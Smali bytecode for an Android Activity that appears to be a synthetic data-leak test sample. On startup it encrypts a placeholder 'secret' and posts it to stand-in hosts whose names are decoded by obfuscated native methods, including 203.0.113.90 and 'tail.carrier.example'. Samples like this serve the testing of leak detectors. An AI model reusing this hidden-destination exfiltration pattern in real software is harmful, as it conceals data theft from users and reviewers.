# The Java half of carrier.c: what goes to native methods and what comes from them.
.class public Lorg/example/carrier/Carrier;
.super Landroid/app/Activity;
.field static final HOST:Ljava/lang/String; = "field.carrier.example"
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method
.method public native decodeHost()Ljava/lang/String;
.end method
.method public static native key()[B
.end method
.method public static native pick(I)Ljava/lang/String;
.end method
.method public static native report(Ljava/lang/String;[B)I
.end method
.method public static native a([B)V
.end method
.method public static native b(Ljava/lang/String;)Ljava/lang/String;
.end method
.method public static native c()Ljava/lang/String;
.end method
.method public static native d()Ljava/lang/String;
.end method
.method public static native e([B)V
.end method
.method static joined(ILjava/lang/String;Ljava/lang/String;)Ljava/lang/String;
    .registers 4
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    invoke-virtual {v0, p1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0, p0}, Ljava/lang/StringBuilder;->append(I)Ljava/lang/StringBuilder;
    invoke-virtual {v0, p2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
.method static prefix(Ljava/lang/String;)Ljava/lang/String;
    .registers 3
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    const-string v1, "https://java."
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0, p0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
.method static post(Ljava/lang/String;[B)V
    .registers 4
    new-instance v0, Ljava/net/URL;
    invoke-direct {v0, p0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    invoke-virtual {v0}, Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v0
    invoke-virtual {v0, p1}, Ljava/io/OutputStream;->write([B)V
    return-void
.end method
.method static web(Ljava/lang/String;[B)V
    .registers 4
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    const-string v1, "https://"
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0, p0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0, p1}, Lorg/example/carrier/Carrier;->post(Ljava/lang/String;[B)V
    return-void
.end method
.method static seal([B)[B
    .registers 5
    new-instance v0, Ljava/security/spec/X509EncodedKeySpec;
    invoke-static {}, Lorg/example/carrier/Carrier;->key()[B
    move-result-object v1
    invoke-direct {v0, v1}, Ljava/security/spec/X509EncodedKeySpec;-><init>([B)V
    const-string v1, "RSA"
    invoke-static {v1}, Ljava/security/KeyFactory;->getInstance(Ljava/lang/String;)Ljava/security/KeyFactory;
    move-result-object v1
    invoke-virtual {v1, v0}, Ljava/security/KeyFactory;->generatePublic(Ljava/security/spec/KeySpec;)Ljava/security/PublicKey;
    move-result-object v0
    const-string v1, "RSA/ECB/PKCS1Padding"
    invoke-static {v1}, Ljavax/crypto/Cipher;->getInstance(Ljava/lang/String;)Ljavax/crypto/Cipher;
    move-result-object v1
    const/4 v2, 0x1
    invoke-virtual {v1, v2, v0}, Ljavax/crypto/Cipher;->init(ILjava/security/Key;)V
    invoke-virtual {v1, p0}, Ljavax/crypto/Cipher;->doFinal([B)[B
    move-result-object v0
    return-object v0
.end method
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 8
    const-string v0, "secret"
    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
    move-result-object v0
    invoke-static {v0}, Lorg/example/carrier/Carrier;->seal([B)[B
    move-result-object v1
    invoke-virtual {p0}, Lorg/example/carrier/Carrier;->decodeHost()Ljava/lang/String;
    move-result-object v2
    invoke-static {v2, v1}, Lorg/example/carrier/Carrier;->web(Ljava/lang/String;[B)V
    const-string v2, "203.0.113.90"
    invoke-static {v2, v0}, Lorg/example/carrier/Carrier;->report(Ljava/lang/String;[B)I
    const/4 v2, 0x7
    invoke-static {v2}, Lorg/example/carrier/Carrier;->pick(I)Ljava/lang/String;
    move-result-object v2
    invoke-static {v2, v0}, Lorg/example/carrier/Carrier;->web(Ljava/lang/String;[B)V
    const/16 v2, 0x16
    new-array v3, v2, [B
    invoke-static {v3}, Lorg/example/carrier/Carrier;->a([B)V
    new-instance v2, Ljava/lang/String;
    invoke-direct {v2, v3}, Ljava/lang/String;-><init>([B)V
    invoke-static {v2, v0}, Lorg/example/carrier/Carrier;->web(Ljava/lang/String;[B)V
    const-string v2, "tail.carrier.example"
    invoke-static {v2}, Lorg/example/carrier/Carrier;->b(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v2
    invoke-static {v2, v0}, Lorg/example/carrier/Carrier;->post(Ljava/lang/String;[B)V
    invoke-static {}, Lorg/example/carrier/Carrier;->c()Ljava/lang/String;
    move-result-object v2
    invoke-static {v2, v0}, Lorg/example/carrier/Carrier;->web(Ljava/lang/String;[B)V
    invoke-static {}, Lorg/example/carrier/Carrier;->d()Ljava/lang/String;
    move-result-object v2
    invoke-static {v2, v0}, Lorg/example/carrier/Carrier;->web(Ljava/lang/String;[B)V
    invoke-static {v1}, Lorg/example/carrier/Carrier;->e([B)V
    return-void
.end method
